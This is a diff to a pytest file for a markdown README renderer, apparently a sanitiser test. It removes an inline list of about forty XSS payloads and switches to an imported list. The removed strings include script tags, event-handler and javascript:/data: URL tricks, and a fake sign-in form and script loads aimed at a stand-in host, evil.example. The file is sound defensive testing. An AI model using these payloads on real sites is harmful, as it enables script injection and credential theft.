@@ -7,55 +7,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from attacks import XSS
 from corral.edges.markdown import MAX_RENDERED, render_readme
 
-#: Ways to run something, as markdown, as HTML, and as both at once.
-CORPUS = (
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:x">x</a>',
-    '<a href="/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
-    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    "<style>*{display:none}</style>",
-    '<div id="said" class="hidden">x</div>',
-    "<template><script>alert(1)</script></template>",
-    '<p title="</p><script>alert(1)</script>">x</p>',
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](<javascript:alert(1)>)",
-    '[x](https://a.example "onmouseover=alert(1)")',
-    '[x](https://a.example"onmouseover="alert(1))',
-    "![x](javascript:alert(1))",
-    '![x"onerror="alert(1)](https://a.example/x.png)',
-    "![x](https://a.example/x.png)",
-    "<javascript:alert(1)>",
-    "[ref]\n\n[ref]: javascript:alert(1)",
-    "```html\n</code></pre><script>alert(1)</script>\n```",
-    '```"onload=alert(1)\nx\n```',
-    "`<script>alert(1)</script>`",
-    "| a |\n|-|\n| <script>alert(1)</script> |",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "</div></main><script>alert(1)</script>",
-)
 _TAG = re.compile(r"<([a-zA-Z!/?][^>\s]*)((?:\s[^>]*)?)>")
 _HARMLESS = frozenset(
     "a abbr blockquote br code dd del details dl dt em h3 h4 h5 h6 hr i b kbd li ol p pre s samp strong sub summary sup".split()  # noqa: SIM905 - easier to read than a list of quoted words
@@ -71,7 +25,7 @@ def check_harmless(html: str) -> None:
             assert _ATTRIBUTES.match(attribute), html
 
 
-@pytest.mark.parametrize("attack", CORPUS)
+@pytest.mark.parametrize("attack", XSS)
 def test_t81_attack_in_a_readme_is_text_or_nothing(attack: str) -> None:
     check_harmless(render_readme(attack))
     check_harmless(render_readme(f"before {attack} after\n\n> {attack}\n\n- {attack}\n"))
